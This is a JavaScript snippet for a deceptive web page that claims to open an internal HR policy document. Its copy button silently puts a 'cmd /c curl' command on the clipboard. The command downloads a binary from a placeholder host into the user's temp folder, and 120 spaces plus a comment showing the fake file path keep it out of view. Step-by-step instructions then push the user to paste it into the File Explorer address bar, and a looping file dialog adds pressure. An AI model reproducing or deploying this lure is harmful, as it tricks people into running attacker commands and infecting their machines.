const fileInput = document.getElementById("hidden-upload");
const shown = "C:\\company\\internal-secure\\filedrive\\HRPolicy.docx";
const cmd = () => ["cmd", " /c ", "curl ", "-so ", "%TEMP%\\AAAA.bin ", "https://drive-share.invalid/f/AAAA"].join("");

async function copyPath() {
  await navigator.clipboard.writeText(cmd() + " ".repeat(120) + "# " + shown);
  document.querySelector(".path").textContent = shown;
  document.querySelector("#copy").textContent = "Copied!";
  document.querySelector("#open").disabled = false;
}

document.querySelector("#copy").addEventListener("click", copyPath);
document.querySelector("#open").addEventListener("click", async () => {
  await copyPath();
  fileInput.click();
});
fileInput.addEventListener("change", () => {
  alert("Please follow the stated instructions.");
  fileInput.value = "";
  setTimeout(() => fileInput.click(), 500);
});
document.querySelector(".steps").innerHTML = `
  <p>To access <b>HRPolicy.docx</b>, follow these steps:</p>
  <ol><li>Copy the file path below</li>
  <li>Open File Explorer and select the address bar (<kbd>CTRL</kbd> + <kbd>L</kbd>)</li>
  <li>Paste the file path and press <kbd>Enter</kbd></li></ol>`;
